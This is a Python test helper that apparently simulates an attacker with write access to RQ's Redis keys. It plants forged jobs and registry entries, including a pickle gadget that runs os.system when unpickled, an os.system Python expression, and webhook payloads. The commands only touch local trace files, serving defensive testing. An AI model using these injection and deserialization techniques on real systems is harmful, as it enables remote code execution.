"""Somebody who can write to RQ's keys, and to nothing else: the ways in, as raw commands, and traces of what ran."""

import json
import os
import pickle
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from types import TracebackType
from typing import Any, Final, Self

import redis

BOMB_BYTES: Final = 100_000_000
LARGE_BYTES: Final = 10_000_000
"""Of a result that only an attacker's job has."""
LONG_AGO: Final = 1
"""A score by which RQ takes a registry's member for expired, or due."""

Call = list[object]


DRAIN: Final = "workers.jobs.drain"


def drain(slot: int) -> Call:
    """A call that our own worker allows: what comes with it must be shut by itself."""
    return [DRAIN, None, [], {"destination": "default", "slot": slot}]


HARMLESS: Final = drain(0)
"""Ends well at once while somebody holds the lease."""
FAILING: Final[Call] = ["nobody.nothing", None, [], {}]
LEAVE: Final = "planted.leave"
"""A function that takes a job and leaves the trace."""
INFLATABLE: Final = ("exc_info", "meta", "result")
USUAL: Final = {
    "created_at": "2026-01-01T00:00:00.000000Z",
    "status": "queued",
    "timeout": "60",
    "result_ttl": "60",
    "failure_ttl": "60",
}


class Gadget:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (self.command,)


class Attacker:
    """Plants jobs and members of registries, under RQ's names.

    Args:
        client: of the server where RQ lives.
        folder: for the traces, and for a module `planted` that its workers can import.
        queue: the name of the queue that is attacked.
    """

    def __init__(self, client: redis.Redis, folder: Path, queue: str) -> None:
        self.redis = client
        self.queue = queue
        self._traces = folder / "traces"
        self._traces.mkdir(exist_ok=True)
        leave = f"def leave(job, *_): (Path({str(self._traces)!r}) / job.id).touch()"
        (folder / "planted.py").write_text(f"from pathlib import Path\n{leave}\n")
        self._listener = ThreadingHTTPServer(("127.0.0.1", 0), _leaving_traces(self._traces))
        Thread(target=self._listener.serve_forever, daemon=True).start()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self._listener.shutdown()
        self._listener.server_close()

    def ran(self, job_id: str) -> bool:
        """Whether the planted code ran, the listener was called, or the result is in Redis."""
        results: list[Any] = self.redis.xrange(f"rq:results:{job_id}")  # type: ignore[assignment] # redis-py types any client's
        sizes = [len(fields.get(b"return_value", b"")) for _, fields in results]
        return (self._traces / job_id).exists() or any(size >= LARGE_BYTES for size in sizes)

    def command(self, job_id: str) -> str:
        """A shell command that leaves the trace."""
        return f"touch {self._traces / job_id}"

    def expression(self, job_id: str) -> str:
        """Python that leaves the trace."""
        return f"__import__('os').system({self.command(job_id)!r})"

    def gadget(self, job_id: str) -> bytes:
        """A pickle that leaves the trace."""
        return pickle.dumps(Gadget(self.command(job_id)))

    def webhook(self, job_id: str, status: str) -> str:
        """A request, with a header of the attacker's choice, that leaves the trace."""
        url = f"http://127.0.0.1:{self._listener.server_port}/{job_id}"
        return json.dumps([{"url": url, "job_status": status, "method": "POST", "headers": {"X-Chosen": "yes"}}])

    def plant(self, job_id: str, data: bytes | Call, **fields: str | bytes) -> None:
        """Write a job's hash; a call is written as JSON."""
        packed = data if isinstance(data, bytes) else zlib.compress(json.dumps(data).encode())
        mapping = USUAL | {"origin": self.queue, "data": packed} | fields
        self.redis.hset(f"rq:job:{job_id}", mapping=mapping)  # type: ignore[arg-type] # redis-py types any client's

    def enqueue(self, job_id: str, data: bytes | Call, **fields: str | bytes) -> None:
        """Plant a job and put it on the queue."""
        self.plant(job_id, data, **fields)
        self.push(job_id)

    def abandon(self, job_id: str, **fields: str | bytes) -> None:
        """Plant a job whose worker seems to have died: the next one's maintenance deals with it."""
        self.plant(job_id, HARMLESS, status="started", **fields)
        self.register("wip", f"{job_id}:execution")

    def push(self, job_id: str | bytes, suffix: str = "") -> None:
        """Put an id on the queue, whatever it is; with `:intermediate`, on the list of jobs under way."""
        self.redis.rpush(f"rq:queue:{self.queue}{suffix}", job_id)

    def register(self, registry: str, member: str | bytes) -> None:
        """Put a member that is due into the queue's registry: wip, ready, scheduled."""
        self.redis.zadd(f"rq:{registry}:{self.queue}", {member: LONG_AGO})  # type: ignore[type-var] # redis-py types any client's


def _leaving_traces(folder: Path) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            (folder / self.path.strip("/")).touch()
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            """Not on standard error."""

    return Handler
